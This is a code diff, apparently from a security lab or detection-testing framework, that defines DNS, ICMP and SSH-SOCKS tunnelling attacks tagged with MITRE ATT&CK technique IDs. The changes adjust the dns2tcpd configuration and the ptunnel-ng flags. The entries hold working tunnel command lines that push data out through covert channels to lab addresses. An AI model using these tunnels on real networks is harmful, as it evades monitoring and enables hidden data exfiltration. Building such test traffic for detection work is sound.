@@ -14,8 +14,8 @@ def _jitter(percent):
     return f"$(awk -v seed=$RANDOM 'BEGIN {{{{srand(seed); print 1.3 * (1 + {percent / 100} * (2 * rand() - 1))}}}}')"
 
 
-_DNS2TCPD = ("printf 'listen = {outside}\\nport = 5353\\nuser = nobody\\nchroot = /var/empty\\ndomain = d.lab.test\\n"
-             "resources = ssh:198.51.100.1:22\\n' > {folder}/dns2tcpd.conf; mkdir -p /var/empty; dns2tcpd -F -f {folder}/dns2tcpd.conf")
+_DNS2TCPD = ("printf 'listen = {outside}\\nport = 5353\\nuser = nobody\\nchroot = {folder}/empty\\ndomain = d.lab.test\\n"
+             "resources = ssh:198.51.100.1:22\\n' > {folder}/dns2tcpd.conf; mkdir {folder}/empty; dns2tcpd -F -f {folder}/dns2tcpd.conf")
 _SHELL_COMMANDS = "(for i in $(seq 25); do echo 'id; ls /; ps'; sleep 1; done)"
 
 ENTRIES = [
@@ -25,7 +25,7 @@ ENTRIES = [
            "192.168.99.1/27 t.lab.test", victims=("resolver",)),
     Attack("dns2tcp-tunnel", "T1071.004", "dns2tcpc -z d.lab.test -r ssh -l 2200 {resolver} & sleep 2; "
            "{ssh} -p 2200 root@127.0.0.1 'head -c 60000 /dev/urandom | base64'", other_end=_DNS2TCPD, victims=("resolver",)),
-    Attack("ptunnel-icmp", "T1572", "ptunnel-ng -p {outside} -l 8000 -r 198.51.100.1 -R 22 & sleep 2; "
+    Attack("ptunnel-icmp", "T1572", "ptunnel-ng -p{outside} -l8000 -r198.51.100.1 -R22 & sleep 2; "
            "{ssh} -p 8000 root@127.0.0.1 'head -c 300000 /dev/urandom | base64'", other_end="ptunnel-ng", victims=_OUTSIDE),
     Attack("ssh-socks-tunnel", "T1572", "{ssh} -N -D 1080 root@{site} & sleep 2; for i in $(seq 10); do curl --silent --socks5 "
            "127.0.0.1:1080 --output /dev/null http://{target}/photo.jpg; sleep 1; done", victims=_SITE),
